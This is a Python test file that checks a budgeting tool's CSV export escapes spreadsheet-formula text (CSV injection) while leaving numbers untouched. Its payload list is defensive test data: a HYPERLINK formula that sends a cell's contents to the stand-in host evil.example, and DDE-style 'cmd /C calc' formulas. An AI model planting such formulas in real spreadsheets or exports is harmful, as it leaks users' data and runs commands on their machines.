"""CSV output escapes text a spreadsheet would run as a formula (OWASP CSV injection), numbers untouched."""

from __future__ import annotations

import csv
import io

import pytest

from tests.conftest import invoke
from trainbudget.addin.cli import render

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-1+1", "=1+1", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_escapes_formula_text(payload):
    text = render.to_csv([{"device": payload, "tflops": -2.5, "hours": 3.0, "note": "plain"}])
    (row,) = list(csv.DictReader(io.StringIO(text, newline="")))
    assert row["device"] == "'" + payload  # read back: the text, quoted so no spreadsheet runs it
    assert row["tflops"] == "-2.5" and row["note"] == "plain"  # numbers, negative ones too, untouched


def test_csv_header_and_ordinary_text_untouched():
    text = render.to_csv([{"name": "H100 SXM", "-x": "a-b", "n": -1}])
    assert text == "name,'-x,n\r\nH100 SXM,a-b,-1\r\n"


@pytest.fixture
def hostile_catalog(tmp_path):
    path = tmp_path / "devices.csv"
    rows = [{"name": p.strip(), "tflops": 100 + i, "kind": "measured", "source": p.strip(), "note": p.strip()}
            for i, p in enumerate(PAYLOADS[:5])]
    with path.open("w", newline="", encoding="utf-8") as f:
        w = csv.DictWriter(f, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    return path


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def test_devices_and_estimate_csv_escape_device_rows(hostile_catalog):
    for args in (("devices", "--csv"),
                 ("estimate", "--csv", *[a for p in PAYLOADS[:5] for a in ("--device", p)])):
        out = invoke(*args, "--catalog", str(hostile_catalog), check=True).stdout
        got = _cells(out)
        assert not [c for c in got if c.startswith(render.FORMULA_STARTS)], out
        for p in PAYLOADS[:5]:
            assert "'" + p in got
        assert any(c.startswith("10") for c in got)  # rates are still plain numbers
